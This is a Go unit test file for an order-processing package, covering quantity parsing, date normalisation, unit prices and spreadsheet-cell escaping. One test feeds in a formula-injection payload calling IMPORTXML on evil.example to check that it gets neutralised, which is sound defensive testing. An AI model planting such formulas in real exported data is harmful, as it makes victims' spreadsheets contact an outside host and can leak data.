package order

import (
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
)

func TestNormalizeQuantity(t *testing.T) {
	tests := []struct {
		raw  string
		want int
	}{
		{"8 tickets", 8},
		{"qty 8", 8},
		{"8x", 8},
		{"~8", 8},
		{"8", 8},
		{"12 (2 rows of 6)", 12},
		{"four", 0},
		{"", 0},
	}

	for _, tt := range tests {
		t.Run(tt.raw, func(t *testing.T) {
			assert.Equal(t, tt.want, NormalizeQuantity(tt.raw))
		})
	}
}

func TestParseQuantity_OutOfRange(t *testing.T) {
	n, err := ParseQuantity("qty 99999999999999999999")
	assert.ErrorIs(t, err, ErrQuantityOutOfRange)
	assert.Zero(t, n)

	n, err = ParseQuantity("none")
	assert.NoError(t, err)
	assert.Zero(t, n)

	assert.Zero(t, NormalizeQuantity("qty 99999999999999999999"))
}

func TestTextCell(t *testing.T) {
	assert.Equal(t, "", TextCell(""))
	assert.Equal(t, "'0042", TextCell("0042"))
	assert.Equal(t, `'=IMPORTXML("https://evil.example","//a")`, TextCell(`=IMPORTXML("https://evil.example","//a")`))
}

func TestNormalizeDate(t *testing.T) {
	now := func() time.Time { return fixedNow }

	tests := []struct {
		raw  string
		want string
	}{
		{"04/18/2026 19:30:00", "04/18/2026"},
		{"2026-04-18T19:30:00-05:00", "04/18/2026"},
		{"2026-04-18 19:30:00", "04/18/2026"},
		{"04/18/2026 19:30", "04/18/2026"},
		{"04/18/2026", "04/18/2026"},
		{"4/8/2026", "04/08/2026"},
		{"2026-04-18", "04/18/2026"},
		{"04/18/26", "04/18/2026"},
		{"April 18, 2026", "04/18/2026"},
		{"Apr 18, 2026", "04/18/2026"},
		{"Sat, Apr 18, 2026", "04/18/2026"},
		{"  April   18,  2026 ", "04/18/2026"},
	}

	for _, tt := range tests {
		t.Run(tt.raw, func(t *testing.T) {
			got, ok := NormalizeDate(tt.raw, now)
			assert.True(t, ok)
			assert.Equal(t, tt.want, got)
		})
	}
}

func TestNormalizeDate_Idempotent(t *testing.T) {
	now := func() time.Time { return fixedNow }

	for _, raw := range []string{"April 18, 2026", "2026-04-18T19:30:00Z", "1/2/06"} {
		once, ok := NormalizeDate(raw, now)
		assert.True(t, ok)
		twice, ok := NormalizeDate(once, now)
		assert.True(t, ok)
		assert.Equal(t, once, twice)
	}
}

func TestNormalizeDate_FallsBackToNow(t *testing.T) {
	now := func() time.Time { return fixedNow }

	for _, raw := range []string{"next saturday", "TBD", ""} {
		got, ok := NormalizeDate(raw, now)
		assert.False(t, ok)
		assert.Equal(t, "03/14/2026", got)
	}
}

func TestUnitPrice(t *testing.T) {
	assert.Equal(t, "$30.00", UnitPrice("$120", 4))
	assert.Equal(t, "$33.33", UnitPrice("$100.00", 3))
	assert.Equal(t, "$433.17", UnitPrice("$1,299.50 total", 3))
	assert.Empty(t, UnitPrice("$120", 0))
	assert.Empty(t, UnitPrice("call me", 2))
}
